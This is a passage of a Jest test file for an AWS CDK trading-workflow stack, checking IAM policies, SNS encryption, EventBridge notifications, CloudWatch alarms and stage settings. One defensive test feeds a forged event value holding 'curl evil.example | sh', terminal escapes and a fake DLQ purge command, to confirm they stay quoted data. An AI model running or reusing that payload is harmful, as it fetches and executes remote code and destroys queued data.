        if (statement.Effect === 'Deny' || from.endsWith('(key policy)')) continue;
        // The operator follows the replays it starts, named alchemiser-<stage>-* (acknowledged for cdk-nag).
        if (statement.Sid === 'FollowOwnReplays') {
          expect(JSON.stringify(statement.Resource)).toContain(`:replay/alchemiser-${stage}-*`);
          continue;
        }
        if (statement.Resource === '*') {
          expect(statement).toEqual(XRAY_STATEMENT);
          continue;
        }
        for (const action of asList<string>(statement.Action)) expect(`${from}: ${action}`).not.toMatch(/\*/);
        for (const resource of asList<unknown>(statement.Resource)) expect(`${from}: ${JSON.stringify(resource)}`).not.toMatch(/\*/);
      }
    });
  });

  describe('workflow notifications', () => {
    const topicId = () => onlyResource(template, 'AWS::SNS::Topic', { TopicName: `alchemiser-workflow-notifications-${stage}` })[0];
    const keyId = notificationKeyId;

    test('topic encrypted with the stage notification key, TLS only', () => {
      template.hasResourceProperties('AWS::SNS::Topic', {
        TopicName: `alchemiser-workflow-notifications-${stage}`,
        KmsMasterKeyId: { 'Fn::GetAtt': [keyId(), 'Arn'] },
      });
      template.hasResourceProperties('AWS::SNS::TopicPolicy', {
        Topics: [{ Ref: topicId() }],
        PolicyDocument: {
          Statement: Match.arrayWith([Match.objectLike({ Effect: 'Deny', Condition: { Bool: { 'aws:SecureTransport': 'false' } } })]),
        },
      });
    });

    test('WorkflowFailed from every Rust producer (no Python owner here) goes to the topic as a notification', () => {
      const name = `alchemiser-notify-workflow-failed-${stage}`;
      const [, rule] = onlyResource<RuleProperties>(template, 'AWS::Events::Rule', { Name: name });
      expect(rule.Properties.EventPattern).toEqual({
        source: sourcesOf(ROUTES, ['WorkflowFailed']).filter((s) => !PYTHON_SOURCES.has(s)),
        'detail-type': ['WorkflowFailed'],
      });
      expect(rule.Properties.State).toBe(rulesEnabled ? 'ENABLED' : 'DISABLED');
      expect(rule.Properties.Targets).toEqual([
        {
          Id: expect.any(String) as unknown,
          Arn: { Ref: topicId() },
          RetryPolicy: { MaximumEventAgeInSeconds: 2 * 3600, MaximumRetryAttempts: 50 },
          DeadLetterConfig: { Arn: { 'Fn::GetAtt': [dlqId(), 'Arn'] } },
          InputTransformer: {
            InputPathsMap: {
              source: '$.source',
              'detail-correlation_id': '$.detail.correlation_id',
              'detail-failure_step': '$.detail.failure_step',
              'detail-failure_reason': '$.detail.failure_reason',
            },
            InputTemplate: expect.any(String) as unknown,
          },
        },
      ]);
    });

    test('a forged id or reason stays quoted data in the notification, and no command line is built from it', () => {
      const [, rule] = onlyResource<{ Targets: { InputTransformer: { InputTemplate: string; InputPathsMap: Record<string, string> } }[] }>(
        template,
        'AWS::Events::Rule',
        { Name: `alchemiser-notify-workflow-failed-${stage}` },
      );
      const { InputTemplate, InputPathsMap } = rule.Properties.Targets[0].InputTransformer;
      const forged = 'x"; curl evil.example | sh; echo "\n\u001b[2JFAKE LOG LINE';
      const reason = 'see below\r\nInspect: alchemiser dlq purge --stage prod';
      const event = {
        source: 'alchemiser.execution',
        detail: { correlation_id: forged, failure_step: 'execution', failure_reason: reason },
      };
      // The rendered notification is JSON (EventBridge inserts each value as a JSON string) ...
      const message = JSON.parse(renderInputTemplate(InputTemplate, InputPathsMap, event)) as {
        notice: string;
        event_values_untrusted: Record<string, unknown>;
        to_inspect: string;
      };
      // ... holding the event's values verbatim, as data, under a key that says so ...
      expect(message.event_values_untrusted).toEqual({
        source: 'alchemiser.execution',
        correlation_id: forged,
        failure_step: 'execution',
        failure_reason: reason,
      });
      // ... and no other text carries anything from the event: the commands have a placeholder to fill in.
      for (const text of [message.notice, message.to_inspect]) {
        expect(text).not.toContain('curl');
        expect(text).not.toContain('purge');
      }
      expect(message.to_inspect).toContain(`alchemiser workflows show CORRELATION_ID --stage ${stage}`);
      expect(message.notice).toBe(`Alchemiser stage ${stage}: a workflow failed.`);
      // Every placeholder stands as a whole JSON value (after a key, before , or }), never inside a quoted string.
      const placeholders = InputTemplate.match(/<[A-Za-z0-9_.-]+>/g) ?? [];
      expect(placeholders).toHaveLength(4);
      expect(InputTemplate.match(/":<[A-Za-z0-9_.-]+>[,}]/g)).toHaveLength(placeholders.length);
    });

    test('the topic policy lets events.amazonaws.com publish for the notification rule only', () => {
      const [, policy] = onlyResource<PolicyProperties>(template, 'AWS::SNS::TopicPolicy', { Topics: [{ Ref: topicId() }] });
      const allows = asList(policy.Properties.PolicyDocument.Statement).filter((s) => s.Effect === 'Allow');
      expect(allows).toEqual([
        {
          Sid: 'PublishWorkflowFailedNotifications',
          Effect: 'Allow',
          Principal: { Service: 'events.amazonaws.com' },
          Action: 'sns:Publish',
          Resource: { Ref: topicId() },
          Condition: { ArnEquals: { 'aws:SourceArn': { 'Fn::GetAtt': [ruleId(`alchemiser-notify-workflow-failed-${stage}`), 'Arn'] } } },
        },
      ]);
    });

    test('no e-mail subscription unless the stage names an address', () => {
      template.resourceCountIs('AWS::SNS::Subscription', 0);
    });
  });

  describe('alarms and dashboard', () => {
    const alarmTopicId = () => onlyResource(template, 'AWS::SNS::Topic', { TopicName: `alchemiser-alarms-${stage}` })[0];
    const STAGE_ALARMS_ARN = `arn:Ref:AWS::Partition:cloudwatch:Ref:AWS::Region:Ref:AWS::AccountId:alarm:alchemiser-${stage}-*`;
    const ruleNames = () => [
      ...ROUTES.rules.map((r) => ruleNameFor(r, stage)),
      `alchemiser-notify-workflow-failed-${stage}`,
    ];

    test('the alarm topic is encrypted with the stage key, whose policy lets CloudWatch and EventBridge use it', () => {
      const keyId = notificationKeyId();
      const key = resourceById<{ EnableKeyRotation: boolean; KeyPolicy: { Statement: Statement[] } }>(template, keyId);
      template.hasResourceProperties('AWS::SNS::Topic', { TopicName: `alchemiser-alarms-${stage}`, KmsMasterKeyId: { 'Fn::GetAtt': [keyId, 'Arn'] } });
      expect(key.Properties.EnableKeyRotation).toBe(true);
      template.hasResourceProperties('AWS::KMS::Alias', { AliasName: `alias/alchemiser-notifications-${stage}` });
      const services = key.Properties.KeyPolicy.Statement.filter((s) => s.Sid !== undefined && s.Sid.endsWith('PublishToEncryptedTopics'));
      expect(services.map((s) => [s.Principal, [...asList(s.Action)].sort()])).toEqual([
        [{ Service: 'cloudwatch.amazonaws.com' }, ['kms:Decrypt', 'kms:GenerateDataKey*']],
        [{ Service: 'events.amazonaws.com' }, ['kms:Decrypt', 'kms:GenerateDataKey*']],
      ]);
      // CloudWatch may use the key for this account's alarms of this stage only, as the topic policy says.
      expect(services[0].Condition).toEqual({
        StringEquals: { 'aws:SourceAccount': { Ref: 'AWS::AccountId' } },
        ArnLike: { 'aws:SourceArn': expect.anything() as unknown },
      });
      expect(joinedText(services[0].Condition?.ArnLike['aws:SourceArn'])).toBe(STAGE_ALARMS_ARN);
    });

    test('the alarm topic policy lets CloudWatch publish for this stage\'s alarms of this account, beside the TLS deny', () => {
      const [, policy] = onlyResource<PolicyProperties>(template, 'AWS::SNS::TopicPolicy', { Topics: [{ Ref: alarmTopicId() }] });
      const statements = asList(policy.Properties.PolicyDocument.Statement);
      expect(statements.filter((s) => s.Effect === 'Deny')).toEqual([
        expect.objectContaining({ Action: 'sns:Publish', Condition: { Bool: { 'aws:SecureTransport': 'false' } } }),
      ]);
      const allows = statements.filter((s) => s.Effect === 'Allow');
      expect(allows).toEqual([
        {
          Sid: 'StageAlarmsPublish',
          Effect: 'Allow',
          Principal: { Service: 'cloudwatch.amazonaws.com' },
          Action: 'sns:Publish',
          Resource: { Ref: alarmTopicId() },
          Condition: {
            StringEquals: { 'aws:SourceAccount': { Ref: 'AWS::AccountId' } },
            ArnLike: { 'aws:SourceArn': expect.anything() as unknown },
          },
        },
      ]);
      expect(joinedText(allows[0].Condition?.ArnLike['aws:SourceArn'])).toBe(STAGE_ALARMS_ARN);
      // ... and the pattern covers every alarm of the stack.
      const names = Object.values(resourcesOf<{ AlarmName: string }>(template, 'AWS::CloudWatch::Alarm')).map((a) => a.Properties.AlarmName);
      expect(names.length).toBeGreaterThan(10);
      for (const name of names) expect(name.startsWith(`alchemiser-${stage}-`)).toBe(true);
    });

    test('an order follow-up older than 30 minutes alarms', () => {
      template.hasResourceProperties('AWS::CloudWatch::Alarm', {
        AlarmName: `alchemiser-${stage}-order-follow-ups-late`,
        Namespace: 'AWS/SQS',
        MetricName: 'ApproximateAgeOfOldestMessage',
        Dimensions: [{ Name: 'QueueName', Value: { 'Fn::GetAtt': [followUpsId(), 'QueueName'] } }],
        Statistic: 'Maximum',
        Threshold: 1800,
        ComparisonOperator: 'GreaterThanThreshold',
        AlarmActions: [{ Ref: alarmTopicId() }],
      });
    });

    test('outbox depth ≥ 1', () => {
      template.hasResourceProperties('AWS::CloudWatch::Alarm', {
        Namespace: 'AWS/SQS',
        MetricName: 'ApproximateNumberOfMessagesVisible',
        Dimensions: [{ Name: 'QueueName', Value: { 'Fn::GetAtt': [outboxId(), 'QueueName'] } }],
        Threshold: 1,
        ComparisonOperator: 'GreaterThanOrEqualToThreshold',
        AlarmActions: Match.anyValue(),
      });
    });

    test('DLQ: visible + in-flight dead letters ≥ 1 (a peek that receives them cannot hide them from the alarm)', () => {
      const sqsMetric = (id: string, name: string) => ({
        Id: id,
        MetricStat: {
          Metric: { Namespace: 'AWS/SQS', MetricName: name, Dimensions: [{ Name: 'QueueName', Value: { 'Fn::GetAtt': [dlqId(), 'QueueName'] } }] },
          Period: 60,
          Stat: 'Maximum',
        },
        ReturnData: false,
      });
      template.hasResourceProperties('AWS::CloudWatch::Alarm', {
        AlarmName: `alchemiser-${stage}-dlq-not-empty`,
        Metrics: Match.arrayEquals([
          Match.objectLike({ Expression: 'visible + inFlight' }),
          sqsMetric('visible', 'ApproximateNumberOfMessagesVisible'),
          sqsMetric('inFlight', 'ApproximateNumberOfMessagesNotVisible'),
        ]),
        Threshold: 1,
        ComparisonOperator: 'GreaterThanOrEqualToThreshold',
      });
    });

    test('FailedInvocations of every rule, by EventBusName and RuleName', () => {
      for (const name of ruleNames()) {
        template.hasResourceProperties('AWS::CloudWatch::Alarm', {
          Namespace: 'AWS/Events',
          MetricName: 'FailedInvocations',
          Dimensions: Match.arrayWith([
            { Name: 'EventBusName', Value: { Ref: busId() } },
            { Name: 'RuleName', Value: name },
          ]),
          Threshold: 1,
          ComparisonOperator: 'GreaterThanOrEqualToThreshold',
        });
      }
    });

    test.each(HANDLERS)('%s: Errors and Throttles alarms', (handler) => {
      const [fnId] = functionOf(handler);
      for (const metric of ['Errors', 'Throttles']) {
        template.hasResourceProperties('AWS::CloudWatch::Alarm', {
          Namespace: 'AWS/Lambda',
          MetricName: metric,
          Dimensions: [{ Name: 'FunctionName', Value: { Ref: fnId } }],
          Threshold: 1,
          ComparisonOperator: 'GreaterThanOrEqualToThreshold',
        });
      }
    });

    /** A custom-metric alarm `alchemiser-<stage>-<suffix>`: Sum over 5 minutes ≥ 1, missing data not breaching, to the topic. */
    const expectFirstOccurrenceAlarm = (suffix: string, metric: string, dimensions: { Name: string; Value: string }[]) => {
      template.hasResourceProperties('AWS::CloudWatch::Alarm', {
        AlarmName: `alchemiser-${stage}-${suffix}`,
        Namespace: 'Alchemiser/EventBridge',
        MetricName: metric,
        Dimensions: dimensions,
        Statistic: 'Sum',
        Period: 300,
        EvaluationPeriods: 1,
        Threshold: 1,
        ComparisonOperator: 'GreaterThanOrEqualToThreshold',
        TreatMissingData: 'notBreaching',
        AlarmActions: [{ Ref: alarmTopicId() }],
      });
    };

    test.each([
      ['WorkflowsFailed', 'monitor', 'workflows-failed'],
      ['WorkflowsTimedOut', 'monitor', 'workflows-timed-out'],
      ['OrdersFailed', 'execution', 'orders-failed'],
    ])('%s ≥ 1 (function=%s): Sum over 5 minutes, missing data not breaching', (metric, handler, suffix) => {
      expectFirstOccurrenceAlarm(suffix, metric, [
        { Name: 'function', Value: handler },
        { Name: 'stage', Value: stage },
      ]);
    });

    test.each([
      'halted',
      'target_weights',
      'buys_over_equity',
      'max_order_notional',
      'max_plan_turnover',
      'max_daily_buy_notional',
      'max_daily_orders',
      'max_failed_sell_notional',
      'buy_allow_list',
    ])('a plan refused by %s alarms: PlansRefused by check ≥ 1 (function=execution)', (check) => {
      expectFirstOccurrenceAlarm(`plan-refused-${check.replace(/_/g, '-')}`, 'PlansRefused', [
        { Name: 'check', Value: check },
        { Name: 'function', Value: 'execution' },
        { Name: 'stage', Value: stage },
      ]);
    });

    test('every alarm notifies the stage alarm topic', () => {
      const alarms = Object.values(resourcesOf(template, 'AWS::CloudWatch::Alarm'));
      // DLQ, outbox, follow-ups late; failed invocations per rule; errors and throttles per function; three outcomes;
      // nine pre-trade limits and the halt.
      expect(alarms).toHaveLength(3 + ruleNames().length + 2 * HANDLERS.length + 3 + 9);
      for (const alarm of alarms) expect(alarm.Properties.AlarmActions).toEqual([{ Ref: alarmTopicId() }]);
    });

    test('dashboard alchemiser-<stage> shows workflows, rules, functions and the custom metrics', () => {
      const [, dashboard] = onlyResource<{ DashboardBody: unknown }>(
        template,
        'AWS::CloudWatch::Dashboard',
        { DashboardName: `alchemiser-${stage}` },
      );
      // The body is a Fn::Join of JSON text and references: render references as "Ref:<id>" and parse it.
      const body = JSON.parse(joinedText(dashboard.Properties.DashboardBody)) as {
        widgets: { properties: { title?: string; metrics?: unknown[][] } }[];
      };
      /** Each metric as [namespace, name, {dimensions}, {options}]. */
      const metrics = body.widgets.flatMap((w) => w.properties.metrics ?? []).map((m: unknown[]) => {
        const strings = m.filter((x): x is string => typeof x === 'string');
        const options = (m.find((x) => typeof x === 'object') ?? {}) as { stat?: string };
        const dims = Object.fromEntries(Array.from({ length: (strings.length - 2) / 2 }, (_, i) => [strings[2 + 2 * i], strings[3 + 2 * i]]));
        return { namespace: strings[0], name: strings[1], dims, stat: options.stat };
      });
      const has = (namespace: string, name: string, dimensions: Record<string, string>, stat?: string) =>
        metrics.some(
          (m) =>
            m.namespace === namespace &&
            m.name === name &&
            JSON.stringify(Object.entries(m.dims).sort()) === JSON.stringify(Object.entries(dimensions).sort()) &&
            (stat === undefined || m.stat === stat),
        );

      const monitor = { stage, function: 'monitor' };
      for (const name of ['WorkflowsCompleted', 'WorkflowsFailed', 'WorkflowsTimedOut']) {
        expect(has('Alchemiser/EventBridge', name, monitor, 'Sum')).toBe(true);
      }
      for (const p of ['p50', 'p90', 'p99']) expect(has('Alchemiser/EventBridge', 'WorkflowDurationMs', monitor, p)).toBe(true);
      for (const name of ruleNames()) {
        for (const metric of ['MatchedEvents', 'Invocations', 'FailedInvocations']) {
          expect(has('AWS/Events', metric, { EventBusName: `Ref:${busId()}`, RuleName: name })).toBe(true);
        }
      }
      for (const handler of HANDLERS) {
        for (const name of ['Errors', 'Throttles', 'Duration']) {
          expect(has('AWS/Lambda', name, { FunctionName: `Ref:${functionOf(handler)[0]}` })).toBe(true);
        }
        for (const name of ['EventsHandled', 'Failures', 'DuplicatesSkipped', 'HandlerLatencyMs']) {
          expect(has('Alchemiser/EventBridge', name, { stage, function: handler })).toBe(true);
        }
      }
      for (const name of ['OrdersPlaced', 'OrdersFailed']) expect(has('Alchemiser/EventBridge', name, { stage, function: 'execution' })).toBe(true);
      // Plans refused, by the limit or the halt that refused them: one line per alarmed check.
      for (const { check } of LIMIT_ALARMS) {
        expect(has('Alchemiser/EventBridge', 'PlansRefused', { stage, function: 'execution', check }, 'Sum')).toBe(true);
      }
    });
  });

  test('outputs and SSM parameters for bus, DLQ, outbox, tables, the notification topic and the operator role', () => {
    const topic = onlyResource(template, 'AWS::SNS::Topic', { TopicName: `alchemiser-workflow-notifications-${stage}` })[0];
    const expected: [string, string, unknown][] = [
      ['EventBusName', 'bus-name', { Ref: busId() }],
      ['EventBusArn', 'bus-arn', { 'Fn::GetAtt': [busId(), 'Arn'] }],
      ['DeadLetterQueueUrl', 'dlq-url', { Ref: dlqId() }],
      ['OutboxQueueUrl', 'outbox-url', { Ref: outboxId() }],
      ['IdempotencyTableName', 'idempotency-table', { Ref: tableId() }],
      ['WorkflowLedgerTableName', 'ledger-table', { Ref: ledgerId() }],
      ['WorkflowNotificationTopicArn', 'notification-topic-arn', { Ref: topic }],
      ['FollowUpQueueUrl', 'follow-up-queue-url', { Ref: followUpsId() }],
      [
        'OperatorRoleArn',
        'operator-role-arn',
        { 'Fn::GetAtt': [onlyResource(template, 'AWS::IAM::Role', { RoleName: `alchemiser-operator-${stage}` })[0], 'Arn'] },
      ],
    ];
    for (const [output, parameter, value] of expected) {
      template.hasOutput(output, { Value: value });
      template.hasResourceProperties('AWS::SSM::Parameter', {
        Name: `/alchemiser/${stage}/${parameter}`,
        Type: 'String',
        Value: value,
      });
    }
    // ... the event authenticity (signing-keys.test.ts) and the kill switch (kill-switch.test.ts).
    template.resourceCountIs('AWS::SSM::Parameter', expected.length + 2);
  });
});

describe('stage-independent behaviour', () => {
  test('stack name is Alchemiser-<stage>', () => {
    expect(buildStack({ stage: 'dev' }).stackName).toBe('Alchemiser-dev');
    expect(buildStack({ stage: 'pr-42' }).stackName).toBe('Alchemiser-pr-42');
  });

  test('-c rulesEnabled=true enables the rules (and the schedule) of a stage that has them off', () => {
    const template = templateFor({ stage: 'dev', rulesEnabled: 'true' });
    for (const rule of Object.values(resourcesOf<RuleProperties>(template, 'AWS::Events::Rule'))) {
      expect(rule.Properties.State).toBe('ENABLED');
    }
    template.hasResourceProperties('AWS::Scheduler::Schedule', { State: 'ENABLED' });
  });

  test('-c rulesEnabled=false disables the rules of a stage that has them on', () => {
    const template = templateFor({ stage: 'prod', rulesEnabled: 'false' });
    for (const rule of Object.values(resourcesOf<RuleProperties>(template, 'AWS::Events::Rule'))) {
      expect(rule.Properties.State).toBe('DISABLED');
    }
  });

  test('-c scheduleEnabled overrides the schedule on its own', () => {
    const template = templateFor({ stage: 'dev', scheduleEnabled: 'true' });
    template.hasResourceProperties('AWS::Scheduler::Schedule', { State: 'ENABLED' });
    for (const rule of Object.values(resourcesOf<RuleProperties>(template, 'AWS::Events::Rule'))) expect(rule.Properties.State).toBe('DISABLED');
  });

  test('an unknown stage gets the defaults: rules and schedule disabled', () => {
    const template = templateFor({ stage: 'feature-x' });
    for (const rule of Object.values(resourcesOf<RuleProperties>(template, 'AWS::Events::Rule'))) {
      expect(rule.Properties.State).toBe('DISABLED');
    }
    template.hasResourceProperties('AWS::Scheduler::Schedule', { State: 'DISABLED' });
    template.hasResourceProperties('AWS::Lambda::Function', { FunctionName: 'alchemiser-strategy-feature-x' });
  });

  test('prod is termination protected; dev is not', () => {
    expect(buildStack({ stage: 'prod' }).terminationProtection).toBe(true);
    expect(buildStack({ stage: 'dev' }).terminationProtection).toBe(false);
  });
});
